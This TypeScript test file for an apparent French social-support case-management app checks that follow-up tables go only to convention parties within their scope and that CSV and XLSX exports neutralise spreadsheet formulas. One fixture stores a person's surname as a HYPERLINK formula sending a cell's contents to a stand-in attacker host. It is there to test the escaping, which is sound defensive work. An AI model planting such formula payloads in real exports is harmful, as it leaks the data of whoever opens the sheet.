import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parisToday } from "../../domain/shared/calendarDate.js";
import { createTestApp, type TestApp, type TestClient } from "../testing/testApp.js";

/**
 * The follow-up table of a review leaves the server as files (XLSX, CSV) and as e-mails to the
 * convention's distribution list: each recipient gets only the rows the policy lets them receive,
 * and no cell can be run by a spreadsheet as a formula.
 */
let t: TestApp;
let advisor: TestClient;
let reviewId: string;
let haguenauCase: string;
const today = parisToday();
const FORMULA_NAME = '=HYPERLINK("http://pirate.example/?d="&A1;"Ouvrir")';
const HAGUENAU_ID = "4455667H";
const userId = async (local: string) => (await t.db.query<{ id: string }>("SELECT id FROM users WHERE email = $1", [`${local}@demo.tandem.fr`]))[0].id;

beforeAll(async () => {
  t = await createTestApp();
  // A person of Haguenau (outside the city of Strasbourg) whose name is a spreadsheet formula, oriented by
  // the Département and paired with the Strasbourg agency's advisor: on that agency's agenda.
  const social = await t.loginAs("social.basrhin");
  const created = await social.post("/api/job-seekers", {
    ftIdentifier: HAGUENAU_ID,
    firstName: "Chloé",
    lastName: FORMULA_NAME,
    birthDate: "1990-04-02",
    communeInsee: "67180",
    registeredAt: "2026-01-05",
    benefits: ["RSA"],
  });
  expect(created.statusCode, created.body).toBe(201);
  const oriented = await social.post("/api/support/cases", { jobSeekerId: created.json().id, origin: "departement_social_service", barriers: [{ code: "housing" }, { code: "mobility" }] });
  expect(oriented.statusCode, oriented.body).toBe(201);
  haguenauCase = oriented.json().id;
  const base = `/api/support/cases/${haguenauCase}`;
  expect((await social.post(`${base}/consent`, { givenOn: today, method: "in_person" })).statusCode).toBe(200);
  const paired = await social.post(`${base}/pair`, { advisorId: await userId("conseiller.basrhin"), socialWorkerId: await userId("social.basrhin") });
  expect(paired.statusCode, paired.body).toBe(200);
  expect((await social.post(`${base}/diagnosis`, { kind: "shared", on: today })).statusCode).toBe(200);
  expect((await social.post(`${base}/submission`, {})).statusCode).toBe(200);

  // The distribution list names an organisation that is no party to the convention (a mistake in a file
  // every party signed): its staff must receive nothing.
  await t.db.query(
    `UPDATE conventions SET base_terms = jsonb_set(base_terms, '{programmes,globalSupport,reviewDistribution}',
       (base_terms #> '{programmes,globalSupport,reviewDistribution}') || $1::jsonb) WHERE number = 'BAS-RHIN-2021-AG'`,
    [JSON.stringify([{ label: "Conseil départemental de la Creuse", organisation: "cd-creuse", roles: ["steering"], source: "erreur de saisie" }])],
  );

  advisor = await t.loginAs("conseiller.basrhin");
  const [convention] = await t.db.query<{ id: string }>("SELECT id FROM conventions WHERE number = 'BAS-RHIN-2021-AG'");
  const scheduled = await advisor.post("/api/reviews", { conventionId: convention.id, agencyIds: [await orgId("ft-strasbourg")], heldOn: today });
  expect(scheduled.statusCode, scheduled.body).toBe(201);
  reviewId = scheduled.json().id;
  const decided = await advisor.put(`/api/reviews/${reviewId}/decisions/${haguenauCase}`, { kind: "accept_entry", note: "=1+2" });
  expect(decided.statusCode, decided.body).toBe(200);
  const closed = await advisor.post(`/api/reviews/${reviewId}/close`);
  expect(closed.statusCode, closed.body).toBe(200);
});
afterAll(() => t.close());

async function orgId(code: string) {
  return (await t.db.query<{ id: string }>("SELECT id FROM organisations WHERE code = $1", [code]))[0].id;
}
const mailTo = async (local: string) =>
  t.db.query<{ body_text: string }>("SELECT body_text FROM emails WHERE to_address = $1 AND subject LIKE 'Tableau de suivi%'", [`${local}@demo.tandem.fr`]);

describe("the follow-up table sent to the distribution list", () => {
  it("reaches no one of an organisation that is not a party to the convention", async () => {
    expect(await mailTo("pilotage.creuse")).toEqual([]);
    const review = (await advisor.get(`/api/reviews/${reviewId}`)).json();
    expect(JSON.stringify(review.distribution)).not.toContain("creuse");
  });

  it("gives each listed party's staff the rows of the cases within their organisation's reach, and the pair their own", async () => {
    // The Ville de Strasbourg serves Strasbourg only: a Haguenau person's row is not the city's to receive.
    // The e-mails name no one (the rows are in Tandem): each says how many rows its recipient may receive.
    const rowsOf = async (local: string) => {
      const [mail] = await mailTo(local);
      expect(mail.body_text, local).not.toContain(HAGUENAU_ID);
      expect(mail.body_text, local).not.toContain("Chloé");
      return Number(mail.body_text.match(/^(\d+) personnes? dont vous pouvez recevoir le suivi/m)?.[1] ?? 0);
    };
    const everyRow = (await advisor.get(`/api/reviews/${reviewId}`)).json().items.length;
    // The Département (the whole of Bas-Rhin) and the agency that follows the people receive every row;
    // the Ville de Strasbourg serves Strasbourg only: not the Haguenau person's row.
    expect(await rowsOf("pilotage.basrhin")).toBe(everyRow);
    expect(await rowsOf("pilotage.ft-basrhin")).toBe(everyRow);
    expect(await rowsOf("admin.strasbourg")).toBe(everyRow - 1);
    // A social worker of a pair receives the rows of the cases they follow, and no other.
    const [{ own }] = await t.db.query<{ own: string }>(
      `SELECT count(*) AS own FROM portfolio_review_items i JOIN support_cases c ON c.id = i.case_id JOIN users u ON u.id = c.social_worker_id
        WHERE i.review_id = $1 AND u.email = 'social.basrhin@demo.tandem.fr'`,
      [reviewId],
    );
    expect(Number(own)).toBeGreaterThanOrEqual(1);
    expect(Number(own)).toBeLessThan(everyRow);
    expect(await rowsOf("social.basrhin")).toBe(Number(own));
    expect(await rowsOf("conseiller.basrhin")).toBe(everyRow);
  });
});

describe("the columns users asked for", () => {
  it("the XLSX gives each person's period end, RSA and QPV, and the decision's note", async () => {
    const xlsx = await advisor.get(`/api/reviews/${reviewId}/documents/1/table_xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("Tableau de suivi")!;
    expect((sheet.getRow(2).values as unknown[]).slice(1)).toEqual([
      "Personne",
      "Identifiant France Travail",
      "Conseiller",
      "Travailleur social",
      "Origine de l’orientation",
      "RSA",
      "QPV",
      "Date d’orientation",
      "Date d’entrée",
      "Fin de période",
      "Date de renouvellement",
      "Date de sortie",
      "Statut",
      "Décision",
      "Type de sortie",
      "Note de la décision",
      "Version de la décision",
    ]);
    let row: ExcelJS.Row | undefined;
    sheet.eachRow((r) => {
      if (r.getCell(2).value === HAGUENAU_ID) row = r;
    });
    const [{ period_ends_on }] = await t.db.query<{ period_ends_on: string }>("SELECT period_ends_on::text FROM support_cases WHERE id = $1", [haguenauCase]);
    // Accepted today under Bas-Rhin's 6-month periods [002 art. 2 g)].
    expect(period_ends_on > today).toBe(true);
    expect(row!.getCell(6).value).toBe("Oui");
    expect(row!.getCell(7).value).toBe("Non");
    expect(row!.getCell(10).value).toEqual(new Date(`${period_ends_on}T00:00:00Z`));
    expect(row!.getCell(10).numFmt).toBe("dd/mm/yyyy");
    expect(row!.getCell(14).value).toBe("Entrée acceptée");
    // The note, neutralised like every text: a spreadsheet shows it, never runs it.
    expect(row!.getCell(16).value).toBe("'=1+2");
  });
});

describe("no cell of an export runs as a formula", () => {
  it("the follow-up CSV and XLSX neutralise a name starting with =", async () => {
    const csv = (await advisor.get(`/api/reviews/${reviewId}/documents/1/table_csv`)).body;
    const line = csv.split("\r\n").find((l) => l.includes(HAGUENAU_ID))!;
    // The cell is quoted (it holds ; and ") and starts with an apostrophe: the spreadsheet shows text.
    expect(line.startsWith(`"'=HYPERLINK(""http://pirate.example/?d=""&A1;""Ouvrir"")`)).toBe(true);
    expect(csv).not.toMatch(/(^|;|\r\n)"?=/);

    const xlsx = await advisor.get(`/api/reviews/${reviewId}/documents/1/table_xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("Tableau de suivi")!;
    const values: unknown[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain(`'${FORMULA_NAME} Chloé`);
    expect(values.filter((v) => typeof v === "string" && /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(values.filter((v) => typeof v === "object" && v !== null && "formula" in v)).toEqual([]);
  });
});
